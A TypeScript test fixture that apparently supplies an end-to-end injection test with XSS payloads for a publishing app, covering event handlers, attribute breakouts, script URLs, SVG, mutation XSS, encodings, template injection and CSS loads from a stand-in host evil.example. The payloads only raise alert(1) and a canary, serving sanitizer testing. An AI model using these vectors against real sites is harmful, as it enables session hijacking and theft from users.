/**
 * @module Our own cross-site scripting vectors, written for Broadsheet's fields and pages, to go
 * beside the Big List of Naughty Strings in e2e/injection.test.ts. Every one that could run
 * script calls `alert(1)` and sets `window.__xss` (in a frame, the top window's), so a browser
 * that ran it shows a dialog or the canary, whichever the page lets through.
 */

/** What every payload runs: the canary first (an alert blocks), then the dialog. */
const RUN = 'window.__xss=1,alert(1)'
/** The same from inside a frame, whose own window is not the one inspected. */
const RUN_IN_FRAME = 'top.__xss=1,alert(1)'

const html = (markup: string) => Buffer.from(markup).toString('base64')
const svgScript = `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN_IN_FRAME}"><script>${RUN_IN_FRAME}</script></svg>`
const entities = (text: string, form: 'dec' | 'hex') => [...text].map((c) => (form === 'dec' ? `&#${c.charCodeAt(0)};` : `&#x${c.charCodeAt(0).toString(16)};`)).join('')

/** Event handlers on elements that fire them without a click (load, error, focus, toggle, animation). */
const EVENT_HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<IMG SRC=x ONERROR="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<svg onload="${RUN}">`,
  `<body onload="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>open</summary></details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<select autofocus onfocus="${RUN}"></select>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}"></audio>`,
  `<iframe onload="${RUN}"></iframe>`,
  `<div style="animation-name:spin;animation-duration:1ms" onanimationstart="${RUN}">spin</div>`,
  `<div onmouseover="${RUN}" style="position:fixed;inset:0">cover</div>`,
  `<a href="https://example.org/" onclick="${RUN}">click</a>`,
  `<marquee onstart="${RUN}">news</marquee>`,
]

/** Text that closes the element or attribute it lands in, then opens its own. */
const BREAKOUTS = [
  `" onmouseover="${RUN}" autofocus onfocus="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus x='`,
  `"><img src=x onerror="${RUN}">`,
  `'><img src=x onerror="${RUN}">`,
  `</textarea><img src=x onerror="${RUN}">`,
  `</title><img src=x onerror="${RUN}">`,
  `</script><script>${RUN}</script>`,
  `"}]</script><script>${RUN}</script>`,
  `</style><img src=x onerror="${RUN}">`,
  `--><img src=x onerror="${RUN}"><!--`,
  `]]><img src=x onerror="${RUN}">`,
  `</noscript><img src=x onerror="${RUN}">`,
  `</option></select><img src=x onerror="${RUN}">`,
  `\u2028\u2029</script><script>${RUN}</script>`,
]

/** Script URLs (javascript:, vbscript:, data:) in Markdown links and images and in raw HTML. */
const SCRIPT_URLS = [
  `[read more](javascript:${RUN})`,
  `[read more](JaVaScRiPt:${RUN})`,
  `[read more](javascript&colon;${RUN})`,
  `[read more](&#106;avascript:${RUN})`,
  `[read more](<java\tscript:${RUN}>)`,
  `[read more](vbscript:msgbox(1))`,
  `[read more](data:text/html;base64,${html(`<script>${RUN_IN_FRAME}</script>`)})`,
  `[read more](https://example.org/ "title\\" onmouseover=\\"${RUN}")`,
  `[ref][x]\n\n[x]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<https://example.org/"onmouseover="${RUN}">`,
  `![chart](javascript:${RUN})`,
  `![chart](data:image/svg+xml;base64,${html(svgScript)})`,
  `![chart](x" onerror="${RUN})`,
  `<a href="javascript:${RUN}">raw link</a>`,
  `<a href=" &#14;javascript:${RUN}">padded link</a>`,
  `<a href="jav&#x09;ascript:${RUN}">tabbed link</a>`,
  `<a href="${entities('javascript', 'hex')}:${RUN}">entity link</a>`,
  `<a href="javascript&#58;${RUN}">colon entity link</a>`,
  `<a href="data:text/html,<script>${RUN_IN_FRAME}</script>">data link</a>`,
  `<img src="javascript:${RUN}">`,
  `<img src="data:image/svg+xml;base64,${html(svgScript)}" alt="svg">`,
  `<iframe src="javascript:${RUN_IN_FRAME}"></iframe>`,
  `<iframe srcdoc="<script>${RUN_IN_FRAME}</script>"></iframe>`,
  `<iframe src="data:text/html;base64,${html(`<script>${RUN_IN_FRAME}</script>`)}"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:image/svg+xml;base64,${html(svgScript)}">`,
  `<form action="javascript:${RUN}"><button>send</button></form>`,
  `<button formaction="javascript:${RUN}">send</button>`,
  `<math><a xlink:href="javascript:${RUN}">formula</a></math>`,
  `<script src="data:,${RUN}"></script>`,
]

/** SVG that runs script by itself (script elements, animation events, foreign HTML, set). */
const SVG = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x" dur="1s"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x="20" y="20">svg link</text></a></svg>`,
  `<svg><foreignObject><img src=x onerror="${RUN}"></foreignObject></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml;base64,${html(svgScript)}#x"/></svg>`,
]

/** Broken markup that parsers repair differently (and mutation XSS that a round trip revives). */
const MALFORMED = [
  `<img src=x onerror="${RUN}"`,
  `<img src=x onerror=${RUN}//`,
  `<img """><script>${RUN}</script>">`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<a href="https://example.org/"title="x"onmouseover="${RUN}">no spaces</a>`,
  `<div <img src=x onerror=${RUN}>>`,
  `<p><b><i>unclosed <img src=x onerror=${RUN}`,
]

/** The same markup encoded: entities, percent-encoding, JavaScript escapes, full-width and UTF-7. */
const ENCODED = [
  `&lt;img src=x onerror="${RUN}"&gt;`,
  `&#60;img src=x onerror="${RUN}"&#62;`,
  `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `%3Cimg%20src%3Dx%20onerror%3D%22${encodeURIComponent(RUN)}%22%3E`,
  `%253Cscript%253E${RUN}%253C%252Fscript%253E`,
  `\\u003cimg src=x onerror=${RUN}\\u003e`,
  `\\x3cscript\\x3e${RUN}\\x3c/script\\x3e`,
  `＜img src=x onerror=${RUN}＞`,
  `<img src=x onerror="${entities('window.__xss=1', 'dec')},${entities('alert(1)', 'hex')}">`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<img src=x on\u0000error="${RUN}">`,
]

/** Styles that run script (old IE) or load from elsewhere, and elements that retarget the page. */
const STYLE_AND_RETARGETING = [
  `<div style="background:url(javascript:${RUN})">styled</div>`,
  `<div style="width:expression(${RUN})">expression</div>`,
  `<style>@import 'https://evil.example/x.css';</style>`,
  `<style>*{background:url(https://evil.example/pixel.png)}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src * 'unsafe-inline'">`,
]

/** Template syntaxes, in case any text reaches a template engine on the server or in the page. */
const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `{{$on.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `{{=${RUN}}}`,
  `[[${RUN}]]`,
  `{{7*7}} \${7*7} <%= 7*7 %> #{7*7}`,
]

/** E-mail addresses and web addresses that a loose check lets through with markup in them. */
const ADDRESSES = [
  `"<script>${RUN}</script>"@example.org`,
  `"<img src=x onerror=${RUN}>"@example.org`,
  `reader@example.org<img src=x onerror=${RUN}>`,
  `javascript:${RUN}`,
  `https://example.org/"><script>${RUN}</script>`,
  `https://example.org/?q="onmouseover="${RUN}`,
  `https://example.org/#<img src=x onerror=${RUN}>`,
]

export const XSS_VECTORS: readonly string[] = [...EVENT_HANDLERS, ...BREAKOUTS, ...SCRIPT_URLS, ...SVG, ...MALFORMED, ...ENCODED, ...STYLE_AND_RETARGETING, ...TEMPLATES, ...ADDRESSES]
